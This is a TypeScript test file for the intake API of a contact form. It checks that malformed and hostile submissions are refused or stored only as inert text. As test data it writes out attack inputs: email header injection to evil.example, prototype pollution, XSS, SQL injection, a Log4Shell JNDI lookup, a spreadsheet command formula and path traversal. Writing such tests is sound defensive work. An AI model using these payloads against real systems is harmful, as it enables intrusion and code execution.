import { until } from '@sevenfold/testing';
import { harmlessOnlyAsDownload, refusedFiles } from './support/hostile-files.js';
import { hostileNames } from './support/hostile-names.js';
import { startIntake, type RunningIntake } from './support/running-intake.js';
import { sha256, testFile } from './support/test-files.js';

let intake: RunningIntake;
beforeAll(async () => (intake = await startIntake()));
afterAll(() => intake?.stop());

const message = { name: 'Ada', email: 'ada@sevenfold.test', message: 'Hello' };
const file = (changes: object) => ({ files: [{ name: 'a.png', type: 'image/png', size: 10, ...changes }] });
const blank = 'Please fill name, email, and message.';

/** Fields that replace or extend those of a valid message, and the field that the error names. */
const hostileFields: Array<[what: string, changes: object, field: string, words?: string]> = [
  ['no name', { name: undefined }, 'name'],
  ['an empty name', { name: '' }, 'name', blank],
  ['a name of white space', { name: ' \t\u00a0\u2003 ' }, 'name', blank],
  ['a name that is a number', { name: 7 }, 'name'],
  ['a name that is a list', { name: ['Ada'] }, 'name'],
  ['a name that is an object', { name: { $ne: null } }, 'name'],
  ['a name that is null', { name: null }, 'name'],
  ['a name that is true', { name: true }, 'name'],
  ['a name of 201 letters', { name: 'n'.repeat(201) }, 'name'],
  ['a name with a NUL', { name: 'a\0b' }, 'name'],
  ['a name with another header', { name: 'Ada\r\nBcc: all@evil.example' }, 'name'],
  ['a name with a line separator', { name: 'a\u2028b' }, 'name'],
  ['a name with a lone surrogate', { name: 'a\ud800b' }, 'name'],
  ['no address', { email: undefined }, 'email'],
  ['an empty address', { email: ' ' }, 'email', blank],
  ['an address without a host', { email: 'ada@' }, 'email'],
  ['an address without a local part', { email: '@sevenfold.test' }, 'email'],
  ['an address with two hosts', { email: 'ada@a.test@b.test' }, 'email'],
  ['an address with a comment', { email: 'ada(comment)@sevenfold.test' }, 'email'],
  ['two addresses', { email: 'ada@sevenfold.test, all@evil.example' }, 'email'],
  ['an address with another header', { email: 'ada@sevenfold.test\r\nBcc: all@evil.example' }, 'email'],
  ['an address with an escaped header', { email: 'ada@sevenfold.test%0aBcc:all@evil.example' }, 'email'],
  ['an address with a display name', { email: 'Ada <ada@sevenfold.test>' }, 'email'],
  ['an address with a script', { email: '"<script>"@sevenfold.test' }, 'email'],
  ['an address with a NUL', { email: 'ada\0@sevenfold.test' }, 'email'],
  ['an address of 255 letters', { email: `${'a'.repeat(242)}@sevenfold.test` }, 'email'],
  ['an address that is a list', { email: ['ada@sevenfold.test'] }, 'email'],
  ['an organization of 201 letters', { org: 'o'.repeat(201) }, 'org'],
  ['an organization that is a number', { org: 1 }, 'org'],
  ['an organization with a line break', { org: 'a\nb' }, 'org'],
  ['no message', { message: undefined }, 'message'],
  ['a message of nothing but line breaks', { message: '\n\r\n\t' }, 'message', blank],
  ['a message of 10,001 letters', { message: 'x'.repeat(10_001) }, 'message'],
  ['a message of 200,000 letters', { message: 'x'.repeat(200_000) }, 'message'],
  ['a message with a NUL', { message: 'a\0b' }, 'message'],
  ['a message with a bell', { message: 'a\u0007b' }, 'message'],
  ['a message with a lone surrogate', { message: 'a\udc00b' }, 'message'],
  ['a message that is an object', { message: { toString: 'x' } }, 'message'],
  ['files that are text', { files: 'a.png' }, 'files'],
  ['files that are null', { files: null }, 'files'],
  ['files as an object', { files: { 0: { name: 'a.png', size: 1 } } }, 'files'],
  ['a file that is text', { files: ['a.png'] }, 'files.0'],
  ['11 files', { files: Array(11).fill(file({}).files[0]) }, 'files'],
  ['101 files', { files: Array(101).fill(file({}).files[0]) }, 'files'],
  ['an empty file', file({ size: 0 }), 'files.0.size'],
  ['a file with a negative size', file({ size: -1 }), 'files.0.size'],
  ['a file of half a byte', file({ size: 1.5 }), 'files.0.size'],
  ['a file whose size is text', file({ size: '10' }), 'files.0.size'],
  ['a file of 100 MiB and a byte', file({ size: 100 * 1024 * 1024 + 1 }), 'files.0.size'],
  ['a file of 1e300 bytes', file({ size: 1e300 }), 'files.0.size'],
  ['a file without a size', file({ size: undefined }), 'files.0.size'],
  ['a file without a name', file({ name: '' }), 'files.0.name'],
  ['a file whose name is a number', file({ name: 1 }), 'files.0.name'],
  ['a file whose name has 1,025 letters', file({ name: `${'n'.repeat(1_021)}.png` }), 'files.0.name'],
  ['a file with a path', file({ path: '/etc/passwd' }), 'files.0.path'],
  ['a file with a key', file({ objectKey: 'inbox/contact/ben/a.png' }), 'files.0.objectKey'],
  ['a file with a status', file({ status: 'stored' }), 'files.0.status'],
  [
    'files of 300 MiB together',
    { files: Array(3).fill(file({ size: 100 * 1024 * 1024 }).files[0]) },
    'files',
  ],
  ['someone else’s uid', { uid: 'ben' }, 'uid'],
  ['a folder of its own', { folder: 'inbox/contact/ben/1_a' }, 'folder'],
  ['a status', { status: 'stored' }, 'status'],
  ['a time', { createdAt: '2020-01-01T00:00:00Z' }, 'createdAt'],
  ['a role', { globalRole: 'admin' }, 'globalRole'],
  ['a user agent', { userAgent: 'x' }, 'userAgent'],
  ['an id', { submissionId: '0190a3b8-0000-7000-8000-000000000000' }, 'submissionId'],
  ['a proof that is text', { proof: 'x' }, 'proof'],
];

/** Bodies that are not a message at all. */
const hostileBodies: Array<[what: string, body: string, type: string]> = [
  ['nothing', '', 'application/json'],
  ['half a message', '{"name":', 'application/json'],
  ['a list', '[]', 'application/json'],
  ['null', 'null', 'application/json'],
  ['text', '"Ada"', 'application/json'],
  [
    'a prototype',
    '{"__proto__":{"admin":true},"name":"A","email":"a@b.test","message":"x"}',
    'application/json',
  ],
  ['a constructor', '{"constructor":{"prototype":{"admin":true}}}', 'application/json'],
  ['a form', 'name=A&email=a%40b.test&message=x', 'application/x-www-form-urlencoded'],
  ['plain text, as a form on another site may send', JSON.stringify(message), 'text/plain'],
  ['two megabytes', JSON.stringify({ ...message, message: 'x'.repeat(2_000_000) }), 'application/json'],
  ['10,000 brackets', '['.repeat(10_000) + ']'.repeat(10_000), 'application/json'],
];

/** Strange but harmless: stored verbatim, and returned as text. */
const strangeTexts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  'javascript:alert(1)',
  "'; drop table submission; --",
  '{{constructor.constructor("alert(1)")()}}',
  '${jndi:ldap://evil.example/a}',
  '=cmd|" /C calc"!A0',
  '../../etc/passwd',
  '%s%s%s%n',
  '\u202eevil\u202c',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'ｆｕｌｌ　ｗｉｄｔｈ',
];

const rows = hostileFields.length + hostileBodies.length + strangeTexts.length;
const files = hostileNames.length + refusedFiles.length + harmlessOnlyAsDownload.length;

it('tries at least 150 hostile inputs', () => expect(rows + files).toBeGreaterThanOrEqual(150));

let visitors = 0;
const visitor = async () => {
  const uid = `visitor-${++visitors}`;
  return { uid, person: await intake.person(uid) };
};

async function expectNothingOf(uid: string) {
  expect(await intake.sql('select id from submission where uid = $1', [uid])).toEqual([]);
  expect(await intake.sql('select uid from daily_quota where uid = $1', [uid])).toEqual([]);
  expect([...(await intake.objects.below(`inbox/contact/${uid}/`)).keys()]).toEqual([]);
}

describe('a message is refused with the name of the faulty field, and nothing is stored, for', () => {
  it.each(hostileFields)('%s', async (_, changes, field, words = '') => {
    const { uid, person } = await visitor();
    const { status, body } = await person.call('POST', '/api/contact/submissions', {
      ...message,
      ...changes,
    });
    expect([400, 413]).toContain(status);
    expect(body).toMatchObject({
      status,
      field,
      code: expect.stringMatching(/^(request\.invalid|contact\.[a-z-]+)$/),
    });
    expect(body.detail).toContain(words);
    await expectNothingOf(uid);
  });
});

describe('a body that is not a message is refused with a problem document that shows no internals:', () => {
  it.each(hostileBodies)('%s', async (_, body, type) => {
    const { uid } = await visitor();
    const answer = await fetch(`${intake.url}/api/contact/submissions`, {
      method: 'POST',
      headers: { 'content-type': type, authorization: `Bearer ${await intake.token({ uid })}` },
      body,
    });
    expect(answer.status).toBeGreaterThanOrEqual(400);
    expect(answer.status).toBeLessThan(500);
    expect(answer.headers.get('content-type')).toContain('application/problem+json');
    expect(await answer.text()).not.toMatch(/node_modules|\.ts:|\.js:|select |prisma/i);
    await expectNothingOf(uid);
  });
});

describe('text is stored verbatim, and is only ever text:', () => {
  it.each(strangeTexts)('%s', async text => {
    const { person } = await visitor();
    const { status, body } = await person.submit({ name: text, org: text, message: text });
    expect(status).toBe(201);
    const document = await intake.objects.below(body.folder);
    const kept = JSON.parse(String([...document.values()][0]));
    expect([kept.name, kept.org, kept.message]).toEqual([text, text, text]);
    const admin = await intake.admin();
    const shown = await admin.call('GET', `/api/admin/contact/submissions/${body.submissionId}`);
    expect([shown.body.name, shown.body.message]).toEqual([text, text]);
    expect(shown.headers.get('content-type')).toContain('application/json');
  });
});

describe('the name of a file is data and never a path:', () => {
  it.each(hostileNames)('%s', async (_, name, kept) => {
    const { uid, person } = await visitor();
    const { status, body } = await person.submit({ files: [{ ...testFile('png', 64), name }] });
    if (kept === undefined) {
      expect({ status, code: body.code }).toEqual({ status: 415, code: 'contact.file-type-not-accepted' });
      return expectNothingOf(uid);
    }
    expect({ status, name: body.uploads[0]!.name }).toEqual({ status: 201, name: kept });
    const [{ object_key: key }] = await intake.sql('select object_key from attachment where id = $1', [
      body.uploads[0]!.fileId,
    ]);
    expect(key).toMatch(
      /^inbox\/contact\/visitor-\d+\/\d{13}_[0-9a-f]{32}\/attachments\/[0-9a-f-]{36}\.[a-z0-9]{3,4}$/,
    );
  });
});

describe('a file is refused, and its message stored, for being', () => {
  it.each(refusedFiles)('$what as $name', async ({ name, bytes }) => {
    const { person } = await visitor();
    const { body } = await person.submit({ files: [{ name, type: 'image/png', bytes }] });
    const { status, body: problem } = await person.patch(body.uploads[0]!.url, 0, bytes);
    expect([status, problem.code]).toEqual([415, 'contact.file-content-not-accepted']);
    const submission = await until(async () => {
      const found = await person.submission(body.submissionId);
      return found.status === 'stored' && found;
    }, 'the message stored');
    expect(submission.files[0]).toMatchObject({ status: 'refused', refusal: problem.code });
    expect([...(await intake.objects.below(body.folder)).keys()]).toEqual([`${body.folder}/submission.json`]);
    expect((await person.raw('HEAD', body.uploads[0]!.url)).status).toBe(410);
  });
});

describe('a file is stored byte for byte, and served only as a download that runs nothing, for being', () => {
  it.each(harmlessOnlyAsDownload)('$what', async ({ name, bytes }) => {
    const { person } = await visitor();
    const { body } = await person.submit({ files: [{ name, type: 'text/html', bytes }] });
    await person.upload(body.uploads[0]!.url, { name, type: 'text/html', bytes });
    const admin = await intake.admin();
    const shown = await admin.call('GET', `/api/admin/contact/submissions/${body.submissionId}`);
    const answer = await fetch(new URL(shown.body.files[0].downloadUrl, intake.url));
    expect(sha256(Buffer.from(await answer.arrayBuffer()))).toBe(sha256(bytes));
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment; /);
    expect(answer.headers.get('content-type')).toMatch(/^(image|audio)\/|^application\/pdf$/);
    if (intake.env['OBJECT_STORE'] !== 'folder') return;
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    expect(answer.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
  });
});
